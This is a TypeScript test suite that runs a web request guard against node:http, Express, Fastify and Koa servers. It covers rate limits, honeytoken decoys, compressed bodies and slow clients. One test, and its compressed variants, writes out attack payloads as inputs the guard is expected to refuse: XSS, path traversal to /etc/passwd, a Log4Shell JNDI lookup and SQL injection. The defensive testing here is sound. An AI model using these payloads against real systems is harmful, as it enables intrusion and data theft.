/** Each adapter in the real framework, over real sockets: the same questions to all of them. */
import { once } from 'node:events';
import { createServer, request as ask, type IncomingMessage, type RequestListener, type Server } from 'node:http';
import { createRequire } from 'node:module';
import { connect, type AddressInfo } from 'node:net';
import { text } from 'node:stream/consumers';
import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib';
import express from 'express';
import fastify from 'fastify';
import Koa from 'koa';
import { afterEach, describe, expect, it } from 'vitest';
import { createGuard, type Guard, type GuardOptions } from '../guard.ts';
import { decisions, guardExpress } from './express.ts';
import { guardFastify } from './fastify.ts';
import { guardKoa } from './koa.ts';
import { protect } from './node-http.ts';

const express4 = createRequire(import.meta.url)('express-4') as typeof express;

const undo: (() => unknown)[] = [];
afterEach(async () => {
  for (const one of undo.splice(0).reverse()) await one();
});

async function listen(server: Server): Promise<number> {
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  undo.push(async () => {
    server.closeAllConnections();
    await new Promise((resolve) => server.close(resolve));
  });
  return (server.address() as AddressInfo).port;
}

function expressApp(create: typeof express): (guard: Guard) => Promise<number> {
  return async (guard) => {
    const app = create();
    app.use(guardExpress(guard));
    app.post('/raw', (req, res) => void text(req).then((body) => res.send(body)));
    app.use(create.json({ limit: '1mb' }), create.urlencoded({ extended: false, limit: '1mb' }));
    app.post('/parsed', (req, res) => void res.json(req.body));
    // Mounted, so that its `url` lacks the beginning.
    const router = create.Router();
    router.use((req, res) => void res.send(`hello ${decisions.get(req)?.client.address}`));
    app.use('/hello', router);
    return listen(createServer(app));
  };
}

/** Applications with `/hello`, `/raw` (the body as it came) and `/parsed` (as JSON). */
const frameworks: Readonly<Record<string, (guard: Guard) => Promise<number>>> = {
  'node:http': (guard) => {
    const serve: RequestListener = (request, response) => {
      if (request.url === '/hello') response.end(`hello ${decisions.get(request)?.client.address}`);
      else void text(request).then((body) => response.end(body));
    };
    return listen(createServer(protect(guard, serve)));
  },
  'Express 4': expressApp(express4),
  'Express 5': expressApp(express),
  'Fastify 5': async (guard) => {
    const app = fastify({ bodyLimit: 4 * 1024 * 1024 });
    guardFastify(app, guard);
    app.addContentTypeParser('application/x-www-form-urlencoded', { parseAs: 'string' }, (_, body, done) => {
      done(null, Object.fromEntries(new URLSearchParams(String(body))));
    });
    app.addContentTypeParser('text/plain', (_, payload, done) => done(null, payload));
    app.get('/hello', (request) => `hello ${decisions.get(request.raw)?.client.address}`);
    app.post('/raw', (request, reply) => reply.send(request.body));
    app.post('/parsed', (request) => request.body);
    await app.ready();
    undo.push(() => app.close());
    await app.listen({ port: 0, host: '127.0.0.1' });
    return (app.server.address() as AddressInfo).port;
  },
  'Koa 3': (guard) => {
    const app = new Koa();
    app.silent = true;
    app.use(guardKoa(guard));
    app.use(async (ctx) => {
      ctx.body = ctx.path === '/hello' ? `hello ${decisions.get(ctx.req)?.client.address}` : await text(ctx.req);
    });
    const serve = app.callback();
    return listen(createServer((request, response) => void serve(request, response)));
  },
};

interface Asked {
  readonly status: number;
  readonly headers: IncomingMessage['headers'];
  readonly body: string;
}

describe.each(Object.keys(frameworks))('%s', (name) => {
  async function start(
    options: GuardOptions = {},
  ): Promise<
    (path: string, body?: string | Uint8Array, headers?: Record<string, string>, method?: string) => Promise<Asked>
  > {
    const guard = createGuard({ inspection: 'block', log: () => undefined, ...options });
    undo.push(() => guard.close());
    const port = await frameworks[name]!(guard);
    return async (path, body, headers = {}, method = body === undefined ? 'GET' : 'POST') => {
      const asked = ask({
        host: '127.0.0.1',
        port,
        path,
        method,
        headers,
        agent: false,
      });
      asked.end(body);
      const [response] = (await once(asked, 'response')) as [IncomingMessage];
      return { status: response.statusCode!, headers: response.headers, body: await text(response) };
    };
  }
  const json = { 'content-type': 'application/json' };

  it('lets requests in with what is left of their quota, until it is used up', async () => {
    const get = await start({ limits: [{ name: 'a', requests: 2, windowS: 3600 }] });
    expect(await get('/hello')).toMatchObject({
      status: 200,
      body: 'hello 127.0.0.1',
      headers: { 'ratelimit-policy': '"a";q=2;w=3600' },
    });
    expect((await get('/hello')).headers['ratelimit']).toMatch(/^"a";r=0;t=\d+$/);
    const refused = await get('/hello');
    expect(refused.status).toBe(429);
    expect(refused.headers['retry-after']).toMatch(/^\d+$/);
    expect(refused.headers['ratelimit']).toMatch(/^"a";r=0;t=\d+$/);
  });

  it('refuses attacks in path, query, headers and bodies', async () => {
    const get = await start();
    const form = { 'content-type': 'application/x-www-form-urlencoded' };
    const refused = [
      await get('/hello?q=%3Cscript%3Ealert(1)%3C/script%3E'),
      await get('/hello/%2e%2e/%2e%2e/etc/passwd'),
      await get('/hello', undefined, { 'x-comment': '${jndi:ldap://203.0.113.1/a}' }),
      await get('/parsed', '{"a":"1 UNION SELECT password FROM users-- -"}', json),
      await get('/parsed', 'a=%27+or+1%3D1--+-', form),
    ];
    expect(refused.map(({ status }) => status)).toEqual([403, 403, 403, 403, 403]);
    expect(refused[0]!.body).toBe('This request was refused.\n');
  });

  it('gives a body on as it came, of whatever kind and size', async () => {
    const get = await start();
    const long = JSON.stringify({ words: 'A long walk by the river. '.repeat(30_000) });
    expect(JSON.parse((await get('/parsed', '{"a":"plain"}', json)).body)).toEqual({ a: 'plain' });
    expect((await get('/parsed', long, json)).body).toBe(long);
    expect((await get('/parsed', long, { ...json, 'transfer-encoding': 'chunked' })).body).toBe(long);
    expect((await get('/raw', 'plain words', { 'content-type': 'text/plain' })).body).toBe('plain words');
    expect((await get('/raw', '', { 'content-type': 'text/plain' })).status).toBe(200);
  });

  it('looks into a body that is packed, or comes with a method that usually has none', async () => {
    const get = await start();
    const attack = '{"a":"1 UNION SELECT password FROM users-- -"}';
    const packed = (encoding: string): Record<string, string> => ({ ...json, 'content-encoding': encoding });
    const long = `{"a":"1 UNION SELECT password FROM users-- -","b":"${'x'.repeat(1_000_000)}"}`;
    const refused = [
      await get('/parsed', gzipSync(attack), packed('gzip')),
      await get('/parsed', deflateSync(attack), packed('deflate')),
      await get('/parsed', brotliCompressSync(attack), packed('br')),
      await get('/parsed', gzipSync(long), packed('x-gzip')),
      await get('/hello', attack, { ...json, 'content-length': String(attack.length) }, 'GET'),
    ];
    expect(refused.map(({ status }) => status)).toEqual([403, 403, 403, 403, 403]);
    // As it came.
    const plain = gzipSync('plain words');
    const given = { 'content-type': 'text/plain', 'content-encoding': 'gzip' };
    expect((await get('/raw', plain, given)).body).toBe(plain.toString());
  });

  it('answers with a decoy, and then with nothing else', async () => {
    const get = await start({ honeytokens: { paths: ['/admin/backup'] }, proxies: { trusted: ['127.0.0.1'] } });
    const from = { 'x-forwarded-for': '203.0.113.200, 198.51.100.7' };
    expect(await get('/admin/backup', undefined, from)).toMatchObject({
      status: 200,
      headers: { 'content-type': 'text/html; charset=utf-8' },
    });
    expect((await get('/hello', undefined, from)).status).toBe(403);
    expect((await get('/hello', undefined, { 'x-forwarded-for': '203.0.113.200' })).body).toBe('hello 203.0.113.200');
  });

  it('answers a client that keeps its body back, and outlives one that goes', async () => {
    const guard = createGuard({ inspection: { mode: 'block', bodyTimeoutMs: 50 }, log: () => undefined });
    undo.push(() => guard.close());
    const port = await frameworks[name]!(guard);
    const head =
      'POST /parsed HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{"a":';
    const slow = connect(port, '127.0.0.1');
    slow.write(head);
    expect(await text(slow)).toMatch(/^HTTP\/1\.1 408 /);
    const gone = connect(port, '127.0.0.1');
    gone.write(head);
    gone.end();
    gone.resume();
    await once(gone, 'close');
    const asked = ask({ host: '127.0.0.1', port, path: '/hello', agent: false }).end();
    const [response] = (await once(asked, 'response')) as [IncomingMessage];
    expect(await text(response)).toContain('hello');
  });
});
